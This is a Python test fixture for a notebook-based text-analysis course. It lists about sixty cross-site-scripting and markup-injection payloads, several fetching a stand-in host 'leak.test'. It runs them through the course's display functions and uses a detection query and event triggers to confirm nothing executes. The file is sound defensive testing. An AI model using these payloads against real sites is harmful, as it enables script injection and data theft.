"""What an attacker puts where a page expects words: for the tests of what is shown.

Each would set ``window.hit``, open a dialog or fetch something of the name "leak", if a browser (or
a renderer of formulas or Markdown) took it for code. None of them does so by itself.
"""

import re

RUN = "window.hit=1"
EVIL = "http://leak.test/x"
PAYLOADS = [
    f"<script>{RUN}</script>",
    f"<ScRiPt >{RUN}</sCrIpT >",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script src={EVIL}></script>",
    f"<script type=module>import '{EVIL}'</script>",
    f"<img src=leak onerror={RUN}>",
    f"<img src={EVIL}>",
    f"<IMG/SRC=leak/ONERROR={RUN}//",
    f"<img srcset='{EVIL} 1x'>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a href='javascript:{RUN}'><text>maybe</text></a></svg>",
    f"<svg><use href='{EVIL}#a'/></svg>",
    f"<svg><foreignObject><iframe srcdoc='<script>parent.{RUN}</script>'>",
    f'<iframe src="javascript:parent.{RUN}"></iframe>',
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f"<iframe src={EVIL}></iframe>",
    f"<object data={EVIL}></object>",
    f"<embed src={EVIL}>",
    f"<video><source onerror={RUN} src=leak></video>",
    f"<audio src={EVIL} autoplay>",
    f"<link rel=stylesheet href={EVIL}>",
    f"<link rel=prefetch href={EVIL}>",
    f"<style>@import '{EVIL}';</style>",
    f"<style>* {{ background: url({EVIL}) !important }}</style>",
    f"<div style='background:url({EVIL})'>maybe</div>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    "<base href='http://leak.test/'>",
    f"<form action={EVIL}><input autofocus onfocus={RUN}></form>",
    f"<details open ontoggle={RUN}>maybe</details>",
    f"<body onload={RUN}>",
    f"<marquee onstart={RUN}>maybe</marquee>",
    f"<p onmouseover={RUN} onclick={RUN}>maybe</p>",
    f"<input onfocus={RUN} autofocus>",
    f"<a href='javascript:{RUN}'>maybe</a>",
    f"<a href='java&#x0A;script:{RUN}'>maybe</a>",
    f"<a href='data:text/html,<script>{RUN}</script>'>maybe</a>",
    f'"><img src=leak onerror={RUN}>',
    f"'><img src=leak onerror={RUN}>",
    f'" onmouseover="{RUN}" autofocus onfocus="{RUN}',
    f"' onfocus='{RUN}' autofocus '",
    f"`onfocus={RUN} autofocus`",
    f"--><img src=leak onerror={RUN}>",
    f"]]><img src=leak onerror={RUN}>",
    f"</textarea><img src=leak onerror={RUN}>",
    f"</title><img src=leak onerror={RUN}>",
    f"</style><img src=leak onerror={RUN}>",
    f"</script><script>{RUN}</script>",
    f"</option></select><img src=leak onerror={RUN}>",
    f'<noscript><p title="</noscript><img src=leak onerror={RUN}>">',
    f"<math><mtext><table><mglyph><style><img src=leak onerror={RUN}>",
    f"<template><img src=leak onerror={RUN}></template>",
    f"&lt;img src=leak onerror={RUN}&gt;",
    f"&#60;img src=leak onerror={RUN}&#62;",
    f"%3Cimg src=leak onerror={RUN}%3E",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"\\u003cimg src=leak onerror={RUN}\\u003e",
    f"<\0script>{RUN}</\0script>",
    f"${{{RUN}}} {{{{ {RUN} }}}} {{% {RUN} %}} <%= {RUN} %>",
    f"$\\href{{javascript:{RUN}}}{{maybe}}$ \\(\\unicode{{x41}}\\)",
    "$$\\require{html}\\style{background:url(leak)}{maybe}$$",
    f"![maybe]({EVIL}) [maybe](javascript:{RUN}) <{EVIL}>",
    f"\x1b]8;;{EVIL}\x07maybe\x1b]8;;\x07 \u202e{RUN}\u2066",
]

# A notebook that shows them wherever the course shows a stranger's words.
CELLS = [
    """
import json
from helpers import *
from helpers.controls.corrections_view import label_of
from helpers.show.collection import Collection
payloads = json.load(open("payloads.json", encoding="utf-8"))
paragraphs = [f"“It may rain {each} today,” said Ada {each}. Ten people, perhaps, heard {each}."
              for each in payloads]
article = Article.from_text("\\n\\n".join([payloads[5], *paragraphs]), name=payloads[0])
found = analyse(article)
print(summary(found))
""",
    "highlight(article, [*found.quotations, *found.hedges, *found.boosters], speakers=True)",
    "table([(each, each) for each in payloads], payloads[:2], payloads[0])",
    "article_map(article, found.voiced, found.quotations)",
    "article_explorer(found)",
    "quotation_explorer(article)",
    "hedge_explorer(article)",
    "tokeniser_bench(payloads[0])",
    "in_lines(article, concordance(article, 'rain'), payloads[0])",
    """
mine = Corrections(article)
for quotation, payload in zip(list(mine.quotations), payloads):
    try:
        mine.change(quotation, speaker=payload)
    except ValueError as error:
        print(error)
for payload in payloads:
    try:
        mine.add_quotation(payload, "mixed", nth=1)
    except ValueError as error:
        print(error)
correct(mine, learner=payloads[38])
""",
    "corrections_view(mine)",
    "kinds_by_speaker(article, mine.quotations)",
    "annotated = annotate(payloads[1], passage(article, 0, 12))\nannotated",
    """
for number in range(len(annotated.annotation.passage.words[0])):
    annotated.annotation.mark(number, "vague")
annotation_view(annotated.annotation)
""",
    "own = own_article(article)\nown",
    """
for payload in payloads:
    own.form._act("load", {"named": payload}, {})
with Collection("payloads.html") as collection:
    for each in (mine.found, analyse("Perhaps.")):
        collection.add(each)
""",
]
LEAK = re.compile(r"leak\.test|/leak\b")
# What no output of the course may hold, whoever wrote the article.
FOREIGN = """() => [...document.querySelectorAll(
    '.jp-OutputArea-output *, main *, .jp-RenderedHTMLCommon *')].filter(each =>
        each.matches('script:not([type^="application/"]), iframe, object, embed, base, meta, ' +
            'link, audio, video, math, foreignObject, marquee, form, [src*="leak"], ' +
            '[href^="javascript" i], [href^="data:" i]')
        || [...each.attributes].some(at => /^on/i.test(at.name))
    ).map(each => each.outerHTML.slice(0, 200))"""
# Point at, focus and click what could listen.
TOUCH = """() => document.querySelectorAll('.jp-OutputArea-output *, main *').forEach(each => {
    for (const kind of ['mouseover', 'mouseenter', 'focus', 'toggle', 'error', 'load'])
        each.dispatchEvent(new Event(kind)); })"""
